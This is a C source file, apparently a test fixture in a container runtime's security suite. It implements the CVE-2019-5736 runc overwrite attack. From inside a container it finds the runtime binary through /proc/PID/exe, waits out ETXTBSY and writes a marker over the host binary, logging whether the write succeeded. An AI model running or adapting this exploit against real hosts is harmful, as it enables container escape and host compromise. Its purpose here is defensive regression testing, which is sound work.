/* The CVE-2019-5736 attacker, run as root inside a container by
 * test/security/exe_overwrite_test.ts. Static, no dependencies.
 *
 *   exe_attacker watch LOG MARKER
 *
 * Watches /proc for a process whose executable is not one of the image's
 * (/bin/busybox, this program): that is the runtime's binary, re-executed
 * inside the container through "#!/proc/self/exe". It takes an O_PATH
 * handle on /proc/PID/exe while it can (the process must still be
 * dumpable), then keeps reopening the handle for writing while the file is
 * busy (ETXTBSY: something still runs it) and writes MARKER at offset 0.
 * Every step goes to LOG, one line each, for the test to read:
 *   caught PID TARGET
 *   wrote TARGET                    the attack worked
 *   refused open|write TARGET ERRNO the runtime resisted
 * A runtime that executes from the file on disk loses that file here. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int logfd = -1;

static void say(const char *fmt, ...)
{
	char line[1024];
	va_list ap;
	va_start(ap, fmt);
	int n = vsnprintf(line, sizeof line - 1, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if (n > (int)sizeof line - 2)
		n = sizeof line - 2;
	line[n++] = '\n';
	/* One write per line, O_APPEND: the test never reads half a line. */
	if (write(logfd, line, n) < 0)
		_exit(3);
}

static int link_of_fd(int fd, char *out, size_t cap)
{
	char p[64];
	snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
	ssize_t n = readlink(p, out, cap - 1);
	if (n < 0)
		return -1;
	out[n] = 0;
	return 0;
}

/* The image's own binaries are not what we are after. */
static int ours(const char *target, const char *self)
{
	return strcmp(target, self) == 0 || strcmp(target, "/bin/busybox") == 0;
}

static void nap_us(long us)
{
	struct timespec ts = {us / 1000000, (us % 1000000) * 1000};
	nanosleep(&ts, NULL);
}

/* The file is busy while anything executes it; wait (up to 20 s) until it
 * is not, then overwrite its first bytes. */
static void overwrite(int handle, const char *target, const char *marker)
{
	char p[64];
	snprintf(p, sizeof p, "/proc/self/fd/%d", handle);
	for (int tries = 0; tries < 200000; tries++) {
		int w = open(p, O_WRONLY | O_CLOEXEC);
		if (w < 0 && errno == ETXTBSY) {
			nap_us(100);
			continue;
		}
		if (w < 0) {
			say("refused open %s %s", target, strerrorname_np(errno));
			return;
		}
		ssize_t n = pwrite(w, marker, strlen(marker), 0);
		int err = errno;
		close(w);
		if (n == (ssize_t)strlen(marker))
			say("wrote %s", target);
		else
			say("refused write %s %s", target, n < 0 ? strerrorname_np(err) : "short");
		return;
	}
	say("refused open %s still-busy", target);
}

static int watch(const char *marker)
{
	char self[4096];
	ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
	if (n < 0)
		return 1;
	self[n] = 0;
	pid_t me = getpid();
	say("watching");
	for (;;) {
		DIR *d = opendir("/proc");
		if (!d)
			return 1;
		struct dirent *de;
		while ((de = readdir(d))) {
			if (de->d_name[0] < '1' || de->d_name[0] > '9' || atoi(de->d_name) == me)
				continue;
			char p[300];
			snprintf(p, sizeof p, "/proc/%s/exe", de->d_name);
			int h = open(p, O_PATH | O_CLOEXEC);
			if (h < 0)
				continue; /* gone, a kernel thread, or not dumpable */
			char target[4096];
			if (link_of_fd(h, target, sizeof target) == 0 && !ours(target, self)) {
				say("caught %s %s", de->d_name, target);
				overwrite(h, target, marker);
			}
			close(h);
		}
		closedir(d);
	}
}

int main(int argc, char **argv)
{
	if (argc != 4 || strcmp(argv[1], "watch") != 0) {
		fprintf(stderr, "usage: exe_attacker watch LOG MARKER\n");
		return 2;
	}
	logfd = open(argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (logfd < 0) {
		perror(argv[2]);
		return 2;
	}
	return watch(argv[3]);
}
